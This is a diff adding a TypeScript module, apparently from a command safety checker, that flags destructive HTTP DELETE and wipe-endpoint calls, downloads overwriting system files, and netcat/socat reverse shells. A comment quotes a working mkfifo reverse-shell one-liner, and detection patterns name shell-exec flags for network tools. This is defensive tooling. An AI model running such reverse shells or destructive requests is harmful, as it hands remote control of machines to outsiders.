@@ -1,0 +1,75 @@
+// HTTP clients used as remote-control tools (DELETE requests, delete-by-query endpoints), downloads
+// that land on system files, and netcat/socat reverse shells.
+import type { SimpleCommand } from '../command';
+import { foldLookalikes } from '../command';
+import type { Analysis } from '../analysis';
+import { classifyPath } from '../paths';
+import { optionValue } from '../options';
+import { verbOf } from './infra';
+import { judgeWriteTarget } from './filesystem';
+import { POSIX_SHELLS } from './shells';
+
+const DESTRUCTIVE_PATH_WORDS = new Set(['delete', 'destroy', 'drop', 'purge', 'truncate', 'wipe', 'remove', 'flush', 'flushall', 'reset', 'nuke', 'erase']);
+
+export function judgeHttpClient(cmd: SimpleCommand, analysis: Analysis): void {
+  const isWget = cmd.name === 'wget' || cmd.name === 'wget2';
+  const method = (
+    isWget
+      ? optionValue(cmd.args, null, ['--method'])
+      : cmd.name === 'http' || cmd.name === 'https' || cmd.name === 'xh'
+        ? cmd.args.find((w) => /^(DELETE|PUT|POST|PATCH)$/i.test(w.value))
+        : optionValue(cmd.args, 'X', ['--request', '--method', '-X'])
+  )?.value.toUpperCase();
+  const hasBody = cmd.args.some((w) => /^(-d|--data(-[a-z]+)?|-F|--form|--json|-T|--upload-file|--post-data|--post-file|--body-data|--body-file)(=|$)/.test(w.value) || /^-d./.test(w.value));
+  const urls = cmd.args.filter((w) => /^[a-z][a-z0-9+.-]*:\/\//i.test(w.value) || /^(localhost|\d+\.\d+\.\d+\.\d+)(:\d+)?\//.test(w.value));
+  const destructiveUrl = urls.find((w) => urlPathWords(w.value).some((p) => DESTRUCTIVE_PATH_WORDS.has(p)));
+  if (method === 'DELETE') {
+    analysis.report('http.delete', 'high', `Sends an HTTP DELETE request${urls[0] ? ` to ${urls[0].value}` : ''}: it deletes the remote resource.`, cmd.span);
+  } else if (destructiveUrl && (method === 'POST' || method === 'PUT' || method === 'PATCH' || (!method && hasBody) || (!method && cmd.name === 'curl' && urls.length && hasBody))) {
+    analysis.report('http.destructive-endpoint', 'high', `Calls the endpoint ${destructiveUrl.value}, which deletes or wipes data.`, destructiveUrl.span);
+  } else if (method === 'POST' || method === 'PUT' || method === 'PATCH' || hasBody) {
+    analysis.report('http.mutating', 'moderate', 'Sends data to a server that may change state there.', cmd.span);
+  }
+  // Where the download lands.
+  const output = isWget ? optionValue(cmd.args, 'O', ['--output-document']) : optionValue(cmd.args, 'o', ['--output']);
+  if (output && output.value !== '-') judgeWriteTarget(analysis, classifyPath(output.value), output.value, output, 'Downloads over', 'overwrite');
+  if (isWget) {
+    const dir = optionValue(cmd.args, 'P', ['--directory-prefix']);
+    if (dir) judgeWriteTarget(analysis, classifyPath(dir.value), dir.value, dir, 'Downloads into', 'overwrite');
+  }
+  if (cmd.name === 'curl' && cmd.args.some((w) => /^file:\/\//i.test(w.value) && cmd.args.some((o) => o.value === '-T' || o.value === '--upload-file'))) {
+    analysis.report('http.upload-file', 'moderate', 'Uploads a local file.', cmd.span);
+  }
+}
+
+function urlPathWords(url: string): string[] {
+  const path = url.replace(/^[a-z][a-z0-9+.-]*:\/\/[^/]*/i, '').replace(/^(localhost|\d+\.\d+\.\d+\.\d+)(:\d+)?/, '');
+  const words: string[] = [];
+  for (const seg of path.split(/[/?&#=]+/)) {
+    if (!seg) continue;
+    const verb = verbOf(seg.replace(/^_+/, ''));
+    if (verb) words.push(verb);
+    for (const part of seg.replace(/([a-z])([A-Z])/g, '$1 $2').toLowerCase().split(/[-_. ]+/)) if (part) words.push(part);
+  }
+  return words;
+}
+
+/** nc/ncat/socat wired to a shell: a bind or reverse shell. */
+export function judgeNetcat(cmd: SimpleCommand, analysis: Analysis): void {
+  const values = cmd.args.map((w) => foldLookalikes(w.value));
+  const execArg = optionValue(cmd.args, 'e', ['--exec', '--sh-exec', '-c', '--lua-exec']) ?? optionValue(cmd.args, 'c', []);
+  if (execArg) {
+    analysis.report('net.reverse-shell', 'critical', `${cmd.name} runs "${execArg.value}" with its input and output connected to the network: a remote shell on this machine.`, execArg.span);
+    return;
+  }
+  if (cmd.name === 'socat' && values.some((v) => /^(exec|system):/i.test(v)) && values.some((v) => /^(tcp|udp|openssl|ssl|sctp)[46]?(-listen|-connect)?:/i.test(v))) {
+    analysis.report('net.reverse-shell', 'critical', 'socat connects a program to the network: a remote shell on this machine.', cmd.span);
+  }
+}
+
+/** The mkfifo loop `cat f | sh -i 2>&1 | nc host 4444 > f`: a shell's output goes to the network. */
+export function judgeShellIntoNetwork(cmd: SimpleCommand, analysis: Analysis): void {
+  if (cmd.stdin?.kind === 'unknown' && cmd.stdin.tool && POSIX_SHELLS.has(cmd.stdin.tool)) {
+    analysis.report('net.reverse-shell', 'critical', `A shell's input and output are connected to the network through ${cmd.name}: a remote shell on this machine.`, cmd.span);
+  }
+}
